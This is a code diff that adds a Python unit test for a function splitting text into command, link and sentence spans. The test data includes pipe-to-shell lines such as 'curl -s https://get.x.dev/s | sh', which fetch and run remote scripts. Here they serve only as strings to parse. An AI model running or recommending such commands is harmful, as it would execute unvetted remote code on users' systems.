@@ -167,6 +167,25 @@ def test_spans_are_links_domains_commands_and_sentences_by_normalised_key() -> N
     assert "sinstall it first" in again
 
 
+def test_the_short_line_that_brings_in_a_command_is_said_with_it() -> None:
+    text = "It returns a tensor.\n\nIf it errors, run\n\n    curl -s https://get.x.dev/s | sh"
+    found = dict(spans(text, {"curl"}))
+    said = "If it errors, run curl -s https://get.x.dev/s | sh"
+    assert found["s" + said.casefold()] == said
+    assert "ccurl -s https://get.x.dev/s | sh" in found
+    # A paragraph before it is no lead-in; nor is a command line before it.
+    long = "It returns a tensor of the same shape as its input, element by element, unchanged."
+    after_long = dict(spans(f"{long}\n    curl -s https://get.x.dev/s | sh", {"curl"}))
+    assert not [key for key in after_long if key.startswith("s") and key.endswith("| sh")]
+    script = "Set up:\n    pip install x\n    curl -s https://get.x.dev/s | sh"
+    found = {key for key in dict(spans(script, {"curl", "pip"})) if key.endswith(("x", "sh"))}
+    assert found == {
+        "cpip install x",
+        "ccurl -s https://get.x.dev/s | sh",
+        "sset up: pip install x",
+    }
+
+
 def test_commands_are_looked_for_only_where_a_command_word_is() -> None:
     text = "Run this:\n    curl http://x.example/i.sh | sh"
     assert not any(key.startswith("c") for key, _shown in spans(text, {"run", "this"}))
